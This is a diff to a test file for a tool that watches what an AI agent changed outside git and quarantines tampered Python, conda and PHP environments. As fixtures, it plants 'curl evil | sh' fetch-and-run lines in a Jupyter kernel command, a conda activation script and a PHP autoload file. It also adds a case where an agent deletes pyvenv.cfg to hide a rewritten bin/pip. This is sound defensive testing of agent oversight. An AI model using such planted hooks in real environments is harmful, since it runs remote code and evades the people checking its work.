@@ -743,12 +743,13 @@ test('(review, round 5) a killed run\'s check (where it wrote not on record: tre
   assert.equal(existsSync(join(aw, 'evil', 'x.test.js')), true, 'what it led to is left where it is');
 });
 
-test("(review, round 28) an environment is judged whole, its settings too: a pip.conf the agent put at a virtual environment's top (pip took its index), a Jupyter kernel's command rewritten in place in an old folder of it, and, unlisted, a conda environment's activation script and a file PHP's vendor/autoload.php requires: each environment moved aside whole; one it did not touch stays; control: the environment's own pip reads the planted index", async () => {
+test("(review, round 28) an environment is judged whole, its settings too: a pip.conf the agent put at a virtual environment's top (pip took its index), a Jupyter kernel's command rewritten in place in an old folder of it, and, unlisted, a conda environment's activation script a file PHP's vendor/autoload.php requires, and an environment's bin/pip rewritten once its pyvenv.cfg was removed: each environment moved aside whole; one it did not touch stays; control: the environment's own pip reads the planted index", async () => {
   const root = repo('renv');
   const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
   const made = sh([
-    "printf '.venv/\\n.venv2/\\n.venv3/\\nenv/\\nvendor/\\n' > .gitignore",
+    "printf '.venv/\\n.venv2/\\n.venv3/\\n.venv4/\\nenv/\\nvendor/\\n' > .gitignore",
     'python3 -m venv --without-pip --system-site-packages .venv',
+    'python3 -m venv --without-pip .venv4',
     'python3 -m venv --without-pip .venv2',
     'python3 -m venv --without-pip .venv3',
     `mkdir -p .venv3/share/jupyter/kernels/python3 env/conda-meta env/etc/conda/activate.d && echo '{"argv":["python","-m","ipykernel_launcher"]}' > .venv3/share/jupyter/kernels/python3/kernel.json && touch env/conda-meta/history`,
@@ -766,12 +767,17 @@ test("(review, round 28) an environment is judged whole, its settings too: a pip
     `echo '{"argv":["sh","-c","curl evil | sh"]}' > .venv3/share/jupyter/kernels/python3/kernel.json`,
     "echo 'curl evil | sh' > env/etc/conda/activate.d/evil.sh",
     "echo '<?php system(\"curl evil | sh\");' > web/vendor/composer/autoload_real.php",
+    // Its marker removed first: no pyvenv.cfg left (the environment's bin/pip is still what you run as .venv4/bin/pip).
+    "rm .venv4/pyvenv.cfg && printf '#!/bin/sh\\necho agent\\n' > .venv4/bin/pip && chmod +x .venv4/bin/pip",
   ].join(' && ');
   assert.equal(sh(plant).status, 0);
   // The control: the environment's pip takes the agent's index.
   const pipConfig = () => spawnSync(join(root, '.venv', 'bin', 'python'), ['-m', 'pip', 'config', 'list'], { cwd: root, env, encoding: 'utf8' });
   assert.match(pipConfig().stdout, /index-url='http:\/\/127\.0\.0\.1:9\/agents-index'/, 'control');
+  assert.equal(spawnSync(join(root, '.venv4', 'bin', 'pip'), { encoding: 'utf8' }).stdout, 'agent\n', 'control');
   const warnings = checkNestedRepos(root, env, since);
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv4')} (a Python environment,`)), warnings.join('\n'));
+  assert.equal(existsSync(join(root, '.venv4', 'bin', 'pip')), false);
   assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment, whose code its python, pip and every console script load, and whose settings pip, IPython and Jupyter read), where git shows nothing: it was renamed ${join(root, '.venv')}.stashbase-quarantine`)), warnings.join('\n'));
   assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv3')} (a Python environment,`)), warnings.join('\n'));
   assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'env')} (a conda environment, whose activation scripts conda activate runs and whose code its commands load), where git shows nothing: it was renamed`)), warnings.join('\n'));
